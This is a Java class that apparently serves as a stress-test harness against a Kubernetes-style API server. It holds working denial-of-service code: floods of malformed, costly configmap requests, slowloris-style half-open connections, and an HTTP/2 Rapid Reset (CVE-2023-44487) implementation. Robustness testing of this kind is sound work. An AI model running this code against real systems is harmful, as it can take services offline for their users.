import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;

/// What is sent to one server.
final class HostileAttack {
  static final String MAPS = "/api/v1/namespaces/hostile/configmaps";
  private static final int MOST_UNDER_WAY = 64;

  /// One body in so many is of megabytes.
  private static final int LARGE = 500;

  private final URI target;
  private final String token;
  private final SSLContext tls;
  private final Map<String, AtomicLong> answers = new ConcurrentHashMap<>();
  private final AtomicLong sent = new AtomicLong();
  private final List<HttpRequest> sorts;
  private final HttpRequest large;
  private final CountDownLatch begun = new CountDownLatch(1);
  private volatile boolean over;

  HostileAttack(URI target, String token, SSLContext tls) {
    this.target = target;
    this.token = token;
    this.tls = tls;
    this.sorts =
        List.of(
            patch("merge-patch", "{\"data\":{" + fields(400, "null") + "}}"),
            patch(
                "strategic-merge-patch",
                "{\"metadata\":{\"$patch\":\"x\",\"finalizers\":[" + "1,".repeat(500) + "1]}}"),
            patch(
                "json-patch",
                "["
                    + "{\"op\":\"copy\",\"from\":\"/data\",\"path\":\"/data/y\"},".repeat(200)
                    + "{\"op\":\"test\"}]"),
            get("labelSelector=" + encoded("a in (" + "b,".repeat(800) + "c),!d,e!=f")),
            get("fieldSelector=" + encoded("metadata.name!=a,".repeat(200) + "x=y") + "&limit=-1"),
            post("[".repeat(20_000)),
            post(
                "{\"metadata\":{\"generateName\":\"-\"},\"data\":{" + fields(300, "1e999") + "}}"));
    this.large =
        post("{\"metadata\":{\"name\":\"l\",\"labels\":{" + fields(200_000, "\"\"") + "}}}");
  }

  static HttpClient client(SSLContext tls) {
    return HttpClient.newBuilder().sslContext(tls).version(HttpClient.Version.HTTP_2).build();
  }

  /// Waits until something has been answered.
  ///
  /// @return false: nothing was, for so long
  boolean hasBegun(Duration patience) throws InterruptedException {
    return begun.await(patience.toNanos(), TimeUnit.NANOSECONDS);
  }

  /// Sends nothing more.
  void end() {
    over = true;
  }

  /// Sends so many a second, of each sort in turn by chance, and waits for nobody.
  void run(int rate) {
    var random = new Random(1);
    var slots = new Semaphore(MOST_UNDER_WAY);
    var client = client(tls);
    Thread.ofPlatform().daemon().start(() -> resets(rate / 4));
    Thread.ofPlatform().daemon().start(() -> connections(new Random(2)));
    long begin = System.nanoTime();
    for (long number = 0; !over; number++) {
      long due = begin + number * 1_000_000_000L / Math.max(1, rate * 3 / 4);
      while (!over && System.nanoTime() < due) LockSupport.parkNanos(due - System.nanoTime());
      while (!over && !slots.tryAcquire()) pause(1);
      if (over) break;
      sent.incrementAndGet();
      client
          .sendAsync(request(random), BodyHandlers.discarding())
          .whenComplete((answer, failed) -> {
            slots.release();
            count(failed == null ? Integer.toString(answer.statusCode()) : "cut off");
            if (failed == null) begun.countDown();
          });
    }
    client.shutdownNow();
  }

  private void count(String answer) {
    answers.computeIfAbsent(answer, _ -> new AtomicLong()).incrementAndGet();
  }

  void tell(String whom, long seconds) {
    var counted =
        answers.entrySet().stream()
            .sorted(Map.Entry.comparingByKey())
            .map(each -> each.getKey() + " " + each.getValue())
            .collect(Collectors.joining(", "));
    System.out.printf(
        "hostile: %d requests to the %s in %d s (%d a second): %s%n",
        sent.get(), whom, seconds, sent.get() / seconds, counted);
  }

  private HttpRequest request(Random random) {
    int sort = random.nextInt(sorts.size());
    return sort == sorts.size() - 1 && random.nextInt(LARGE) == 0 ? large : sorts.get(sort);
  }

  private HttpRequest.Builder to(String path) {
    return HttpRequest.newBuilder(target.resolve(path))
        .timeout(Duration.ofMinutes(1))
        .header("Authorization", "Bearer " + token);
  }

  private HttpRequest patch(String type, String body) {
    return to(MAPS + "/a")
        .header("Content-Type", "application/" + type + "+json")
        .method("PATCH", BodyPublishers.ofString(body))
        .build();
  }

  private HttpRequest post(String body) {
    return to(MAPS)
        .header("Content-Type", "application/json")
        .POST(BodyPublishers.ofString(body))
        .build();
  }

  private HttpRequest get(String query) {
    return to(MAPS + "?" + query).GET().build();
  }

  /// Connections that say nothing, or half of something, and stay or go.
  private void connections(Random random) {
    var open = new ArrayList<SSLSocket>();
    while (!over) {
      try {
        var socket = connect("http/1.1");
        socket
            .getOutputStream()
            .write("GET /api HTTP/1.1\r\nHost: x\r\nX-Half: ".getBytes(StandardCharsets.US_ASCII));
        socket.getOutputStream().flush();
        if (random.nextBoolean()) socket.close();
        else open.add(socket);
        if (open.size() > 50) open.removeFirst().close();
      } catch (IOException _) {
        // The server has enough of us.
      }
      pause(50);
    }
  }

  private SSLSocket connect(String protocol) throws IOException {
    var socket =
        (SSLSocket) tls.getSocketFactory().createSocket(target.getHost(), target.getPort());
    var parameters = socket.getSSLParameters();
    parameters.setApplicationProtocols(new String[] {protocol});
    socket.setSSLParameters(parameters);
    socket.startHandshake();
    return socket;
  }

  /// Requests over HTTP/2 that are taken back in the same moment (CVE-2023-44487).
  private void resets(int rate) {
    while (!over) {
      try (var socket = connect("h2")) {
        var out = socket.getOutputStream();
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        out.write(frame(4, 0, 0, new byte[0]));
        var head = head();
        int together = Math.max(1, rate / 100);
        for (int stream = 1; !over && stream < 1_000_000; stream += 2 * together) {
          for (int i = 0; i < together; i++) {
            out.write(frame(1, 5, stream + 2 * i, head));
            out.write(frame(3, 0, stream + 2 * i, new byte[] {0, 0, 0, 8}));
            sent.incrementAndGet();
            count("reset");
          }
          out.flush();
          pause(1_000 * together / Math.max(1, rate));
          while (socket.getInputStream().available() > 0)
            socket.getInputStream().skip(socket.getInputStream().available());
        }
      } catch (IOException _) {
        count("reset connection cut");
      }
    }
  }

  private static String fields(int count, String value) {
    return IntStream.range(0, count)
        .mapToObj(i -> "\"-" + i + "\":" + value)
        .collect(Collectors.joining(","));
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  /// Names and values as they are: without a table, and without Huffman's code (RFC 7541).
  private byte[] head() {
    var head = new ByteArrayOutputStream();
    for (var field :
        List.of(
            ":method",
            "GET",
            ":scheme",
            "https",
            ":authority",
            target.getAuthority(),
            ":path",
            MAPS,
            "authorization",
            "Bearer " + token)) {
      var bytes = field.getBytes(StandardCharsets.US_ASCII);
      if (field.startsWith(":") || field.equals("authorization")) head.write(0x10);
      if (bytes.length < 127) head.write(bytes.length);
      else {
        head.write(127);
        int rest = bytes.length - 127;
        for (; rest >= 128; rest /= 128) head.write(rest % 128 + 128);
        head.write(rest);
      }
      head.writeBytes(bytes);
    }
    return head.toByteArray();
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    var frame = new ByteArrayOutputStream();
    frame.write(payload.length >> 16);
    frame.write(payload.length >> 8);
    frame.write(payload.length);
    frame.write(type);
    frame.write(flags);
    for (int shift = 24; shift >= 0; shift -= 8) frame.write(stream >> shift);
    frame.writeBytes(payload);
    return frame.toByteArray();
  }

  private static void pause(long millis) {
    try {
      Thread.sleep(millis);
    } catch (InterruptedException e) {
      throw new IllegalStateException(e);
    }
  }
}
